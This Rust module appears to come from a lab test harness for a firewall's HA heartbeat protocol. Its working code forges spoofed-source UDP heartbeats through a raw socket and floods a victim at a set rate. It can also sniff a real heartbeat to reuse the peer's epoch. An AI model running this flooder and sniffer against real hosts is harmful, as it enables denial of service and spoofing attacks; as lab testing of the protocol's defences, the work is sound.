//! A flood of forged HA1 datagrams, for the lab only: what anyone on a
//! heartbeat segment can send. Each is a UDP datagram with a spoofed
//! source (the peer's address and port, so it matches the peer's own
//! conntrack entry and firewall rule on the victim) written through a raw
//! socket (`IPPROTO_RAW`, which implies `IP_HDRINCL`), carrying an envelope
//! that looks right up to the tag: magic "HF", version 2, kind HA1, the
//! peer's sender id, a fresh epoch newer than any real one (so the victim's
//! opener would derive a key for each), a random echo and counter, and
//! random bytes.
//!
//! With [`FloodConfig::epoch`] set (learnt by [`sniff_epoch`] from one real
//! heartbeat: the epoch and the echo travel in clear) the forgeries reuse
//! the peer's real epoch and echo the victim's run as the peer does, with
//! random counters: the strongest forgery an on-path sniffer can make.
//!
//! Run [`flood`] inside a lab namespace that routes to the victim (the VPC
//! namespace, whose own packets pass none of its checks); the caller enters
//! it (e.g. `hafw_kernel::in_netns`). The rate is kept by sending, every
//! millisecond, what the schedule says is due.

use std::io;
use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use super::error::HostError;
use super::Stop;

/// The HA envelope's clear header (`hafw_ha::wire::envelope`).
const HEADER_LEN: usize = 48;
const IP_UDP_LEN: usize = 28;

#[derive(Debug, Clone)]
pub struct FloodConfig {
    /// The spoofed source: the peer's heartbeat address and port.
    pub source: SocketAddrV4,
    /// The victim's heartbeat address and port.
    pub target: SocketAddrV4,
    /// The node id the forged envelopes claim (the peer's).
    pub sender_id: u32,
    /// Datagrams per second.
    pub rate: u64,
    pub duration: Duration,
    /// UDP payload length (header, "ciphertext" and tag), at least 48.
    pub len: usize,
    /// The peer's real epoch and its echo of the victim's (header bytes
    /// 8..40) to reuse; `None`: a fresh epoch per datagram.
    pub epoch: Option<[u8; 32]>,
}

impl FloodConfig {
    pub fn new(source: SocketAddrV4, target: SocketAddrV4, sender_id: u32) -> Self {
        FloodConfig {
            source,
            target,
            sender_id,
            rate: 50_000,
            duration: Duration::from_secs(30),
            len: 120,
            epoch: None,
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FloodReport {
    pub sent: u64,
    /// Sends the kernel refused (a full queue: `ENOBUFS`).
    pub errors: u64,
    pub elapsed: Duration,
}

impl FloodReport {
    /// Datagrams sent per second.
    pub fn rate(&self) -> f64 {
        let s = self.elapsed.as_secs_f64();
        if s > 0.0 {
            self.sent as f64 / s
        } else {
            0.0
        }
    }
}

/// Sends forged datagrams at `cfg.rate` until `cfg.duration` has passed or
/// `stop` says so, from the calling thread's namespace.
pub fn flood(cfg: &FloodConfig, stop: &Stop) -> Result<FloodReport, HostError> {
    if cfg.rate == 0 || cfg.len < HEADER_LEN + 16 || cfg.len > 1400 {
        return Err(HostError::Config(format!(
            "flood rate {} and length {}: use a rate above 0 and a length of 48-1400 bytes",
            cfg.rate, cfg.len
        )));
    }
    let sock = raw_socket().map_err(HostError::io("open a raw IPv4 socket (needs root)"))?;
    let mut rng = Rng::seeded();
    let mut packet = vec![0u8; IP_UDP_LEN + cfg.len];
    headers(&mut packet, cfg);
    let dst = sockaddr(cfg.target);
    let start = Instant::now();
    let mut report = FloodReport::default();
    while !stop.is_stopped() && start.elapsed() < cfg.duration {
        let due = (start.elapsed().as_secs_f64() * cfg.rate as f64) as u64;
        while report.sent + report.errors < due {
            forge(&mut packet[IP_UDP_LEN..], cfg, &mut rng);
            // SAFETY: a valid fd, a buffer of its stated length and a
            // sockaddr_in of its stated size.
            let rc = unsafe {
                libc::sendto(
                    sock.as_raw_fd(),
                    packet.as_ptr().cast(),
                    packet.len(),
                    0,
                    (&dst as *const libc::sockaddr_in).cast(),
                    std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if rc < 0 {
                report.errors += 1;
            } else {
                report.sent += 1;
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    report.elapsed = start.elapsed();
    Ok(report)
}

fn raw_socket() -> io::Result<OwnedFd> {
    // SAFETY: socket(2) with constant arguments; the fd is owned below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: fd is a fresh descriptor that nothing else owns.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn sockaddr(a: SocketAddrV4) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: a.port().to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from(*a.ip()).to_be(),
        },
        sin_zero: [0; 8],
    }
}

/// The IPv4 and UDP headers, once: the kernel fills in the IP checksum,
/// total length and id (raw(7)); a UDP checksum of 0 means none (IPv4).
fn headers(p: &mut [u8], cfg: &FloodConfig) {
    let total = p.len() as u16;
    p[0] = 0x45;
    p[2..4].copy_from_slice(&total.to_be_bytes());
    p[8] = 64;
    p[9] = libc::IPPROTO_UDP as u8;
    p[12..16].copy_from_slice(&cfg.source.ip().octets());
    p[16..20].copy_from_slice(&cfg.target.ip().octets());
    p[20..22].copy_from_slice(&cfg.source.port().to_be_bytes());
    p[22..24].copy_from_slice(&cfg.target.port().to_be_bytes());
    p[24..26].copy_from_slice(&(total - 20).to_be_bytes());
}

/// A forged envelope: a plausible header with a fresh epoch (started just
/// now, so newer than the real peer's), then random bytes.
fn forge(env: &mut [u8], cfg: &FloodConfig, rng: &mut Rng) {
    env[0..2].copy_from_slice(b"HF");
    env[2] = 2;
    env[3] = 1;
    env[4..8].copy_from_slice(&cfg.sender_id.to_be_bytes());
    for chunk in env[8..].chunks_mut(8) {
        let r = rng.next().to_le_bytes();
        chunk.copy_from_slice(&r[..chunk.len()]);
    }
    if let Some(epoch) = cfg.epoch {
        env[8..40].copy_from_slice(&epoch);
        return;
    }
    let now_ns = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(0);
    env[8..16].copy_from_slice(&(now_ns + (rng.next() % 1_000_000)).to_be_bytes());
}

/// Waits for one datagram from `source` to `target` through the calling
/// thread's namespace (a packet socket sees what it forwards) and returns
/// the epoch and the echo of the envelope it carries (header bytes 8..40).
pub fn sniff_epoch(
    source: SocketAddrV4,
    target: SocketAddrV4,
    timeout: Duration,
) -> Result<[u8; 32], HostError> {
    // SAFETY: socket(2) with constant arguments; the fd is owned below.
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_DGRAM,
            i32::from((libc::ETH_P_IP as u16).to_be()),
        )
    };
    if fd < 0 {
        return Err(HostError::io("open a packet socket (needs root)")(
            io::Error::last_os_error(),
        ));
    }
    // SAFETY: fd is a fresh descriptor that nothing else owns.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    let tv = libc::timeval {
        tv_sec: 0,
        tv_usec: 100_000,
    };
    // SAFETY: a valid fd and a timeval of its stated size.
    unsafe {
        libc::setsockopt(
            sock.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_RCVTIMEO,
            (&tv as *const libc::timeval).cast(),
            std::mem::size_of::<libc::timeval>() as libc::socklen_t,
        );
    }
    let end = Instant::now() + timeout;
    let mut buf = [0u8; 2048];
    while Instant::now() < end {
        // SAFETY: a valid fd and a buffer of its stated length.
        let n = unsafe { libc::recv(sock.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
        let Ok(n) = usize::try_from(n) else { continue };
        let p = &buf[..n];
        let ihl = usize::from(p.first().copied().unwrap_or(0) & 0x0f) * 4;
        let udp = |i: usize| {
            p.get(ihl + i..ihl + i + 2)
                .map(|b| u16::from_be_bytes([b[0], b[1]]))
        };
        if p.len() >= ihl + 8 + 40
            && p[9] == libc::IPPROTO_UDP as u8
            && p[12..16] == source.ip().octets()
            && p[16..20] == target.ip().octets()
            && udp(2) == Some(target.port())
        {
            let env = &p[ihl + 8..];
            if env.starts_with(b"HF") {
                let mut epoch = [0u8; 32];
                epoch.copy_from_slice(&env[8..40]);
                return Ok(epoch);
            }
        }
    }
    Err(HostError::Timeout {
        context: format!("a heartbeat from {source} to {target}"),
        after: timeout,
    })
}

/// xorshift64*: the flood needs variety, not quality.
struct Rng(u64);

impl Rng {
    fn seeded() -> Rng {
        let t = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(1);
        Rng(t | 1)
    }
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_envelope_claims_the_peer_and_a_fresh_epoch() {
        let mut env = [0u8; 120];
        let mut rng = Rng(7);
        let mut cfg = FloodConfig::new(
            "10.0.0.12:1".parse().unwrap(),
            "10.0.0.11:1".parse().unwrap(),
            1,
        );
        forge(&mut env, &cfg, &mut rng);
        assert_eq!(&env[0..8], &[b'H', b'F', 2, 1, 0, 0, 0, 1]);
        let start = u64::from_be_bytes(env[8..16].try_into().unwrap());
        assert!(
            start > 1_700_000_000_000_000_000,
            "a current wall-clock epoch"
        );
        let before = env;
        forge(&mut env, &cfg, &mut rng);
        assert_ne!(env[16..], before[16..], "each datagram differs");
        cfg.epoch = Some([9; 32]);
        forge(&mut env, &cfg, &mut rng);
        assert_eq!(env[8..40], [9; 32], "the real epoch and echo reused");
        assert_eq!(&env[0..8], &[b'H', b'F', 2, 1, 0, 0, 0, 1]);
    }

    #[test]
    fn headers_carry_the_spoofed_source_and_lengths() {
        let cfg = FloodConfig::new(
            "10.0.0.12:28780".parse().unwrap(),
            "10.0.0.11:28780".parse().unwrap(),
            2,
        );
        let mut p = vec![0u8; IP_UDP_LEN + cfg.len];
        headers(&mut p, &cfg);
        assert_eq!(&p[12..16], &[10, 0, 0, 12]);
        assert_eq!(&p[16..20], &[10, 0, 0, 11]);
        assert_eq!(u16::from_be_bytes([p[20], p[21]]), 28780);
        assert_eq!(u16::from_be_bytes([p[24], p[25]]) as usize, 8 + cfg.len);
        assert_eq!(p[9], 17);
    }

    #[test]
    fn a_zero_rate_is_refused() {
        let mut cfg = FloodConfig::new(
            "10.0.0.12:1".parse().unwrap(),
            "10.0.0.11:1".parse().unwrap(),
            2,
        );
        cfg.rate = 0;
        assert!(matches!(
            flood(&cfg, &Stop::new()),
            Err(HostError::Config(_))
        ));
    }
}
